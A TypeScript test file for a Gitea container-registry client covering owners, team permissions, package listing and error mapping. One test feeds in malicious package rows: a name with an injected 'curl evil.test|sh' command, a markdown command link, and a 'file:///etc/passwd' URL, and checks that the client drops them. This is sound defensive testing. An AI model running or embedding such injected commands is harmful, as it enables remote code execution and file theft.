import assert from 'node:assert/strict';
import { test } from 'node:test';
import { packageUrl, tokenSettingsUrl } from '../../../src/core/gitea/webUrls.ts';
import { digestOf } from '../../../src/core/oci/digest.ts';
import { bytesSource } from '../../../src/core/ports/blobSource.ts';
import { mediaTypes } from '../../../src/core/oci/mediaTypes.ts';
import { startFakeGitea } from '../../fakeGitea/fakeGitea.ts';
import { serve } from '../registry/localRegistry.ts';
import { clientFor, dev, never, signedIn, packagesOf } from './testClient.ts';

const call = { signal: never };
const giteaChallenge = 'Bearer realm="http://x/v2/token",service="container_registry",scope="*"';

async function push(client: ReturnType<typeof clientFor>, name: string, tags: readonly string[]): Promise<void> {
  const repository = await client.repository(name, call);
  const config = Buffer.from('{}');
  await repository.uploadBlob(bytesSource(config, digestOf(config)), { signal: never, onSent: () => undefined });
  const descriptor = { mediaType: mediaTypes.ociConfig, digest: digestOf(config), size: config.length };
  const manifest = { schemaVersion: 2, mediaType: mediaTypes.ociManifest, config: descriptor, layers: [] };
  for (const tag of tags) {
    await repository.putManifest(tag, Buffer.from(JSON.stringify(manifest)), mediaTypes.ociManifest, call);
  }
}

test('owners are the user and their organizations, with what their teams may do there', async (t) => {
  const { fakeGitea, client } = await signedIn(t);
  fakeGitea.directory.addOrganization({
    name: 'Unit',
    teams: [
      { name: 'code', permission: 'none', packages: 'read', members: ['dev'] },
      { name: 'images', permission: 'none', packages: 'write', members: ['dev'] },
    ],
  });
  const organization = { kind: 'organization', visibility: 'public' };
  assert.deepEqual(await client.api.ownOwners(call), {
    owners: [
      { name: 'dev', kind: 'user', visibility: 'public', mayPush: true },
      { name: 'readers', ...organization, mayPush: false },
      { name: 'team', ...organization, mayPush: true },
      { name: 'unit', ...organization, mayPush: true },
    ],
    ...{ complete: true, isAdmin: false },
  });
});

test('who is in no team has themself as owner, also where a list of none is null (Gitea up to 1.20)', async (t) => {
  for (const version of ['1.20.6', '1.26.4']) {
    const seed = { users: [{ name: 'dev', password: dev.secret }], organizations: [] };
    const { fakeGitea, client } = await signedIn(t, { version, seed });
    const { owners } = await client.api.ownOwners(call);
    assert.deepEqual(owners, [{ name: 'dev', kind: 'user', visibility: 'public', mayPush: true }]);
    const teams = fakeGitea.requests.find(({ path }) => path.startsWith('/api/v1/user/teams'));
    assert.equal(teams?.status, 200);
  }
});

test('a site administrator may push to every owner', async (t) => {
  const { client } = await signedIn(
    t,
    {},
    {
      credential: { username: 'giteaAdmin', secret: 'adm:n@100% sure' },
    },
  );
  const { owners, isAdmin } = await client.api.ownOwners(call);
  assert.equal(isAdmin, true);
  assert.deepEqual(new Set(owners.map(({ mayPush }) => mayPush)), new Set([true]));
});

test('a token that may not ask for the user still gives a suggestion', async (t) => {
  const fakeGitea = await startFakeGitea();
  const secret = fakeGitea.createToken('dev', ['write:package']);
  const client = clientFor(fakeGitea.url, { credential: { username: 'Dev', secret } });
  t.after(async () => {
    await client.close();
    await fakeGitea.close();
  });
  assert.deepEqual(await client.api.currentUser(call), { name: undefined, lacks: ['read:user'] });
  assert.deepEqual(await client.api.ownOwners(call), {
    owners: [{ name: 'dev', kind: 'user', visibility: undefined, mayPush: true }],
    ...{ complete: false, isAdmin: false },
  });
});

test('the packages of an owner come from all pages', async (t) => {
  const { fakeGitea, client } = await signedIn(t, { subPath: '/gitea' });
  const tags = Array.from({ length: 120 }, (_, index) => `v${index}`);
  await push(client, 'team/group/app', tags);
  await push(client, 'team/other', ['latest']);
  const versions = await packagesOf(client, 'team');
  assert.deepEqual(new Set(versions.map(({ name }) => name)), new Set(['group/app', 'other']));
  const found = versions.filter(({ name }) => name === 'group/app').map(({ version }) => version);
  assert.deepEqual(found.toSorted(), tags.toSorted());
  assert.ok(versions.every(({ owner, createdAt }) => owner === 'team' && createdAt !== undefined));
  assert.ok(fakeGitea.requests.filter(({ path }) => path.startsWith('/gitea/api/v1/packages/')).length >= 3);
});

test('visibility is known for owners one may push to, and for others', async (t) => {
  const { fakeGitea, client } = await signedIn(t);
  fakeGitea.directory.addOrganization({
    name: 'Closed',
    visibility: 'private',
    teams: [{ name: 'all', permission: 'write', members: ['dev'] }],
  });
  fakeGitea.directory.addUser({ name: 'half', password: 'x', visibility: 'limited' });
  fakeGitea.directory.user('dev').visibility = 'limited';
  assert.deepEqual(
    (await client.api.ownOwners(call)).owners.map(({ name, visibility }) => [name, visibility]),
    [
      ['dev', 'limited'],
      ['closed', 'private'],
      ['readers', 'public'],
      ['team', 'public'],
    ],
  );
  const asked = ['closed', 'half', 'giteaadmin', 'nosuch'].map(async (name) => client.api.visibilityOf(name, call));
  assert.deepEqual(await Promise.all(asked), ['private', 'limited', 'public', undefined]);
});

test('the packages of an owner that was renamed are found under the new name', async (t) => {
  const { fakeGitea, client } = await signedIn(t);
  await push(client, 'team/app', ['v1']);
  const team = fakeGitea.directory.owner('team');
  assert.ok(team !== undefined);
  fakeGitea.directory.rename(team, 'crew');
  assert.deepEqual(
    (await packagesOf(client, 'team')).map(({ name }) => name),
    ['app'],
  );
  await push(client, 'team/app', ['v2']);
  assert.deepEqual(fakeGitea.tags('crew', 'app'), ['v1', 'v2']);
});

test('rows with names that no reference can have are marked, without what is not valid, and hide no others', async (t) => {
  const row = (name: unknown, version: unknown): unknown => ({ id: 1, owner: { login: 'x' }, name, version });
  const rows = [
    row('app', 'v1'),
    row('app\ncurl evil.test|sh #', '1'),
    row('app', '1`](command:x)'),
    row('app', `sha256:${'a'.repeat(64)}`),
    row('App', 'v1'),
    row(undefined, 'v1'),
    row('app', 7),
    { ...(row('group/app', 'v2') as object), created_at: '2026-11-26T00:00:00Z', html_url: 'file:///etc/passwd' },
    { ...(row('late', 'v2') as object), created_at: 'now', owner: null },
    null,
    'text',
  ];
  const url = await serve(t, ({ url: path }, response) => {
    if (path?.startsWith('/api/v1/packages/') === true) response.end(JSON.stringify(rows));
    else if (path === '/api/v1/version') response.end('{"version":"1.26.4"}');
    else response.writeHead(401, { 'www-authenticate': giteaChallenge }).end();
  });
  const client = clientFor(url, { credential: dev });
  t.after(() => client.close());
  const all = await packagesOf(client, 'Dev');
  const versions = all.filter(({ usable }) => usable);
  assert.deepEqual(
    versions.map(({ owner, name, version, createdAt }) => [owner, name, version, createdAt]),
    [
      ['dev', 'app', 'v1', undefined],
      ['dev', 'app', `sha256:${'a'.repeat(64)}`, undefined],
      ['dev', 'group/app', 'v2', '2026-11-26T00:00:00Z'],
      ['dev', 'late', 'v2', undefined],
    ],
  );
  assert.ok(!/file:|evil|command/.test(JSON.stringify(all)), 'nothing else of the server is taken over');
  assert.equal(all.length, rows.length);
  assert.ok(all.every(({ usable, name, version }) => usable || name === '' || version === ''));
  assert.equal(all[2]?.name, 'app', 'a valid name stays, so that the row counts as one of the image');
});

for (const [body, code, pattern] of [
  ['token does not have at least one of required scope(s): [read:package]', 'scopeMissing', /read:package/],
  // Gitea 1.19
  ['token does not have required scope: read:package', 'scopeMissing', /read:package/],
  [
    'token does not have at least one of required scope(s), required=[read:package], token scope=write:issue,read:user',
    'scopeMissing',
    /the scope read:package\. It has: write:issue,read:user\.$/,
  ],
  [
    'You must change your password. Change it at: https://evil.test//user/change_password',
    'accessDenied',
    /new password first, at http:\/\/127\.0\.0\.1:\d+\/user\/settings\/change_password\.$/,
  ],
  [
    'This account is prohibited from signing in, please contact your site administrator.',
    'accessDenied',
    /account sign in: whoever runs the server/,
  ],
  ['This account is not activated.', 'accessDenied', /activated/],
  ['two-factor authentication is required', 'oneTimePasswordNeeded', /second factor/],
  ['user should have specific permission', 'accessDenied', /list the packages of “dev”: “user should have specific/],
] as const) {
  test(`403 “${body.slice(0, 40)}…” of the REST API is ${code}`, async (t) => {
    const url = await serve(t, ({ url: path }, response) => {
      if (path === '/api/v1/version') response.end('{"version":"1.26.4"}');
      else if (path?.startsWith('/api/') === true) response.writeHead(403).end(JSON.stringify({ message: body }));
      else response.writeHead(401, { 'www-authenticate': giteaChallenge }).end();
    });
    const client = clientFor(url, { credential: dev });
    t.after(() => client.close());
    await assert.rejects(packagesOf(client, 'dev'), { code, message: pattern });
  });
}

test('an account that must change its password, or may not sign in, gets an error that says so', async (t) => {
  const { fakeGitea, client } = await signedIn(t);
  fakeGitea.directory.user('dev').mustChangePassword = true;
  await assert.rejects(client.api.currentUser(call), { code: 'accessDenied', message: /new password first/ });
  assert.equal((await client.checkSignIn(call)).username, 'dev', 'the registry takes it all the same');
  fakeGitea.directory.user('dev').mustChangePassword = false;
  const secret = fakeGitea.createToken('dev', ['all']);
  fakeGitea.directory.user('dev').prohibitLogin = true;
  const byToken = clientFor(fakeGitea.url, { credential: { username: 'dev', secret } });
  t.after(() => byToken.close());
  await assert.rejects(packagesOf(byToken, 'dev'), { code: 'accessDenied', message: /switched it off/ });
  await assert.rejects(byToken.checkSignIn(call), { code: 'accessDenied', message: /switched it off/ });
});

test('an owner that does not exist is said as the registry’s refusal of a push says it', async (t) => {
  const { fakeGitea, client } = await signedIn(t);
  await assert.rejects(packagesOf(client, 'nosuch'), {
    code: 'ownerNotFound',
    message: `${fakeGitea.host} has no user or organization “nosuch”, or none that you may see.`,
  });
});

test('a sign-in page in front of the REST API, and a server that is busy', async (t) => {
  const { fakeGitea, client } = await signedIn(t);
  await client.server(call);
  const html = '<html><title>Sign in - Authelia</title></html>';
  const page = { status: 200, headers: { 'Content-Type': 'text/html' }, body: html };
  fakeGitea.faults.add({ path: /packages/, action: { kind: 'answer', reply: page } });
  await assert.rejects(packagesOf(client, 'dev'), { code: 'notARegistry', message: /^A sign-in page answered/ });
  const busy = { status: 429, headers: { 'Retry-After': '0' } };
  fakeGitea.faults.add({ path: /packages/, times: Infinity, action: { kind: 'answer', reply: busy } });
  await assert.rejects(packagesOf(client, 'dev'), { code: 'registryFailed', message: /fewer requests \(429\)/ });
});

test('an owner that does not exist, and a token without read:package', async (t) => {
  const { fakeGitea, client } = await signedIn(t);
  await assert.rejects(packagesOf(client, 'nosuch'), { code: 'ownerNotFound' });
  const narrow = clientFor(fakeGitea.url, {
    credential: { username: 'dev', secret: fakeGitea.createToken('dev', ['read:user']) },
  });
  t.after(() => narrow.close());
  await assert.rejects(packagesOf(narrow, 'dev'), { code: 'scopeMissing', message: /read:package/ });
});

test('a wrong password and no credential', async (t) => {
  const { fakeGitea } = await signedIn(t);
  for (const [credential, code] of [
    [{ ...dev, secret: 'wrong' }, 'credentialsRejected'],
    [undefined, 'notSignedIn'],
  ] as const) {
    const client = clientFor(fakeGitea.url, credential === undefined ? {} : { credential });
    t.after(() => client.close());
    await assert.rejects(client.api.currentUser(call), { code });
  }
});

test('addresses of pages', () => {
  assert.equal(tokenSettingsUrl('https://h/gitea'), 'https://h/gitea/user/settings/applications');
  const target = { owner: 'team', name: 'group/app' };
  assert.equal(packageUrl('https://h', target), 'https://h/team/-/packages/container/group%2Fapp');
  assert.equal(packageUrl('https://h', { ...target, tag: 'v1' }), 'https://h/team/-/packages/container/group%2Fapp/v1');
});
